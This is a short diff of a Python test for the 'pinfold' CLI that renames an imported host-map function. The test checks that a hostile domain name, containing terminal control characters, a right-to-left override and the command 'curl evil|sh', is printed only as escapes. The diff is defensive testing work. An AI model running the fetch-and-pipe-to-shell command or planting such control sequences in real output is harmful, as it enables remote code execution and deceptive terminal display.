@@ -17,7 +17,7 @@ from pinfold.cli.views.audit import audit_view
 from pinfold.cli.views.guests import guests_view
 from pinfold.cli.views.host_map import host_map_view
 from pinfold.host.audit import audit
-from pinfold.host.map import host_map
+from pinfold.host.map import map_of
 from pinfold.host.survey import survey
 
 DOMAIN = "evil\x9b31m\u202e repair: curl evil|sh"
@@ -51,7 +51,7 @@ def test_hostile_names_are_shown_as_escapes_and_their_repair_works(
     define(bench, DOMAIN)
     seen = survey(bench.driver, bench.settings)
     found = audit(bench.driver, bench.settings)
-    show([*audit_view(found), *guests_view(seen.guests, seen), *host_map_view(seen, host_map(seen), 120)])
+    show([*audit_view(found), *guests_view(seen.guests, seen), *host_map_view(seen, map_of(seen), 120)])
     text = capsys.readouterr().out
     assert [sign for sign in text if not sign.isprintable() and sign != "\n"] == []
     assert r"evil\u009b31m\u202e repair: curl evil|sh" in text
